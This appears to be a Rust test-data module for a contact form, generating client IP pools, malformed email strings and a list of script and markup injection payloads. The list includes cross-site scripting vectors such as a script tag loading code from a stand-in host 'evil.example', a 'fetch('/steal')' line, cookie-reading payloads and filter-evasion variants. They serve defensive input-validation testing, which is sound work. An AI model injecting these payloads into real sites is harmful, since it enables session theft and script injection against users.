// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for flood and injection simulation.

use serde_json::{json, Value};

/// Generate a pool of client identifiers in the 10.x.x.x range.
pub fn generate_clients(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| format!("10.{}.{}.{}", (i >> 16) & 0xFF, (i >> 8) & 0xFF, i & 0xFF))
        .collect()
}

/// A valid contact form whose message embeds `payload`.
pub fn contact_with(payload: &str) -> Value {
    json!({
        "name": "Mallory Example",
        "email": "mallory@example.com",
        "message": format!("Please get in touch. {payload} Thanks again."),
    })
}

/// Markup and script vectors a form user might submit.
pub fn generate_injection_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT src=//evil.example/x.js></SCRIPT>",
        "<script>\nfetch('/steal')\n</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "JaVaScRiPt:alert(document.cookie)",
        "javascript :void(0)",
        "<body onload=steal()>",
        "<svg/onload=alert(1)>",
        "<div onMouseOver = 'x()'>hover</div>",
        "javajavascript:script:alert(1)",
        "javascript onfocus=:alert(1)",
        "<scr<script>x</script>ipt>alert(1)</script>",
    ]
}

/// Strings the email check must reject.
pub fn generate_malformed_emails() -> Vec<&'static str> {
    vec![
        "",
        "   ",
        "not-an-email",
        "@example.com",
        "user@",
        "user@example",
        "user @example.com",
        "user@exa mple.com",
        "user@@example.com",
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generate_clients() {
        let clients = generate_clients(300);
        assert_eq!(clients.len(), 300);
        let unique: std::collections::HashSet<_> = clients.iter().collect();
        assert_eq!(unique.len(), 300);
    }
}
